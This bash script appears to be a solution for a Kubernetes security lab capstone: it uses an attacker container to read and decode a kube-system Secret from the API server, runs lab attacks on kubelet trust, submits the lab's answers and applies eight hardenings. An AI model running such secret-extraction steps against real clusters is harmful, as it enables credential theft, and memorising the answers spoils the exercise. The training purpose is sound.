#!/usr/bin/env bash
# Capstone: three attacks, then eight hardenings.
set -euo pipefail

exploit() {
  local crown
  crown=$(minilab exec wire -- attacker http --plain --find '"word"' \
    https://198.51.100.1:6443/api/v1/namespaces/kube-system/secrets/crown |
    sed -n 's/.*"word":"\([^"]*\)".*/\1/p' | base64 -d)
  # Once repaired, nobody reads it: what was earned stays earned.
  [ -n "$crown" ] || return 0
  minilab lab answer crown "$crown"
  minilab attack apiserver-to-kubelet.ca > /dev/null
  minilab attack kubelet-access.authorization > /dev/null
}

explain() {
  minilab lab answer order "$(kubectl logs web --tail=1 | grep -o '[0-9][0-9]*')"
  minilab lab answer residual "root on node-1 reads the Secrets of node-1's pods"
  minilab lab answer contained apiserver-proxy
  minilab lab answer first "verify the kubelets' certificates"
}

harden() {
  minilab harden node-to-apiserver.restriction pod-to-apiserver components-to-apiserver.ports \
    apiserver-access.anonymous kubelet-access apiserver-to-kubelet apiserver-proxy.grants \
    apiserver-egress.tunnel apiserver-egress.agent-authentication
}

# By hand it is exercises 1 to 11, one after the other; each has its own by_hand.
by_hand() { harden; }

for part in "${@:-exploit explain harden}"; do for one in $part; do "$one"; done; done
